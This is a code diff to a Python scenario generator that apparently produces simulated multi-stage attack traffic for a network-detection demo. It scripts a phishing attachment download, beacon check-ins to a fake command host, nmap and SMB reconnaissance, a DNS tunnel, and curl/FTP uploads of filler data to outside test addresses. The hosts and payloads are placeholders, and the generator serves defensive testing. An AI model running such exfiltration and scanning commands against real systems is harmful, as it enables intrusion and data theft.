@@ -1,14 +1,17 @@
 """Connected incidents, each of which runs through several stages of an attack, and habits that ought to be noticed."""
 
 import base64
+import random
 
 import world
 from background import every
-from steps import Step, curl, dns, fetch, mail, nmap, python, smb, talk
+from steps import Step, curl, dns, fetch, mail, nmap, rpc, smb, sweep, talk
 
 VICTIM = "10.10.10.17"  # the workstation that opens the wrong attachment
 MINER = "10.10.20.15"
 BOT = "192.168.50.14"
+BAIT = ("billing@invoice-portal.test", "t.meyer@corp.example")
+POWERSHELL = "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1"
 
 
 def web_server_taken(rng):
@@ -24,7 +27,7 @@ def web_server_taken(rng):
         Step(420, "dmz", app, nmap(app, "-sS", "-T4", "-p", "22,80,445", "10.10.0.20-44")),
         Step(470, "dmz", app, smb("backup.svc", "ADMIN$", "ls", workstation="APP")),
         Step(540, "dmz", app, smb("backup.svc", "team", "get handbook.pdf /dev/null", workstation="APP")),
-        Step(640, "dmz", app, upload("198.51.100.66", 90_000)),
+        Step(640, "dmz", app, upload("198.51.100.66"), input=random.Random(1).randbytes(90_000)),
     ]
     for number, at in enumerate(range(340, 1780, 60)):
         steps.append(Step(at + rng.uniform(-1.5, 1.5), "dmz", app, check_in("cdn-sync.update-check.test", f"app-{number}")))
@@ -35,9 +38,9 @@ def check_in(host, name):
     return curl("-d", "s=1", *fetch(f"http://{host}/gate/checkin?id={name}"), agent="Mozilla/4.0 (compatible; MSIE 7.0)")
 
 
-def upload(address, size):
-    body = ["-H", "Content-Type: application/octet-stream", "--data-binary", "@-"]
-    return ["python3", "-c", f"import subprocess,random;subprocess.run({curl(*body, *fetch(f'http://{address}/upload'))!r},input=random.Random(1).randbytes({size}))"]
+def upload(address):
+    """Sends what comes on standard input."""
+    return curl("-H", "Content-Type: application/octet-stream", "--data-binary", "@-", *fetch(f"http://{address}/upload"))
 
 
 def letter_with_attachment():
@@ -55,18 +58,20 @@ def attachment_opened(rng):
     """A letter, a program that looks like a document, check-ins, a look around, a DNS tunnel, an archive sent out."""
     host = VICTIM
     steps = [
-        Step(395, "out", world.DOWNLOADS, mail(world.MAIL, "mx.invoice-portal.test", "billing@invoice-portal.test", "t.meyer@corp.example"), input=letter_with_attachment()),
+        Step(395, "out", world.DOWNLOADS, mail(world.MAIL, "mx.invoice-portal.test", *BAIT), input=letter_with_attachment()),
         Step(520, "lan", host, curl(*fetch("http://files.invoice-portal.test/files/invoice_2291.pdf.exe"), agent=world.AGENTS[0])),
-        Step(548, "lan", host, curl(*fetch("http://files.invoice-portal.test/files/update.ps1"), agent="Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1")),
-        Step(900, "lan", host, nmap(host, "-sS", "-T4", "-p", "445,3389", "10.10.10.11-60")),
+        Step(548, "lan", host, curl(*fetch("http://files.invoice-portal.test/files/update.ps1"), agent=POWERSHELL)),
+        Step(880, "lan", host, sweep(host, "10.10.0.10-60")),
+        Step(900, "lan", host, nmap(host, "-sS", "-T4", "-p", "445,3389", "10.10.0.10-60")),
         Step(960, "lan", host, smb("t.meyer", "ADMIN$", "ls", password="wrong", workstation="WS-MEYER")),
         Step(985, "lan", host, smb("anna.weber", "ADMIN$", "ls", workstation="WS-MEYER")),
+        Step(1010, "lan", host, rpc("anna.weber", "enumdomusers;srvinfo;netshareenum", workstation="WS-MEYER")),
         Step(1340, "lan", host, curl("-T", "-", "ftp://archive:Winter-2026@203.0.113.200/team.zip"), input=b"PK\x03\x04 NetSentinel demo " * 4000),
     ]
     for at in range(580, 1790, 45):
         steps.append(Step(at + rng.uniform(-0.8, 0.8), "lan", host, curl(*fetch("https://gate.quietpond.test/gate/checkin"), "--tls-max", "1.2")))
     for number, at in enumerate((1060, 1120, 1180, 1240, 1420, 1600)):
-        steps.append(Step(at, "lan", host, dns("tunnel", "t-relay.test", 14, number, 0.25), stretch=4))
+        steps.append(Step(at, "lan", host, dns("tunnel", "t-relay.test", 20, number, 0.21), stretch=4))
     return steps
 
 
@@ -78,7 +83,7 @@ def habits(rng, length):
     for at in every(rng, 170, length, 30):
         names = ["".join(rng.choices("bcdfghjklmnpqrstvwxz0123456789", k=rng.randint(11, 16))) + ".invalid" for _ in range(4)]
         steps.append(Step(at, "iot", BOT, dns("A", *names)))
-    for at in every(rng, 75, length, 20):
+    for at in every(rng, 22, length, 8):
         desk = rng.choice(world.DESKS)
         steps.append(Step(at, "lan", desk, rng.choice(oddities(rng))))
     return steps
@@ -102,5 +107,11 @@ def oddities(rng):
     ]
 
 
-def make(rng, work):
-    return web_server_taken(rng) + attachment_opened(rng) + habits(rng, 1800)
+def slow_sensor(work):
+    """The DMZ sensor's live process is held for a while: packets are lost, its counters say so, its records pause."""
+    pid = f"$(cat {work}/live-dmz.pid)"
+    return [Step(at, "out", world.VISITORS[0], ["sh", "-c", f"kill -{signal} {pid}"]) for at, signal in ((1190, "STOP"), (1300, "CONT"))]
+
+
+def make(rng, work, length):
+    return web_server_taken(rng) + attachment_opened(rng) + habits(rng, length) + slow_sensor(work)
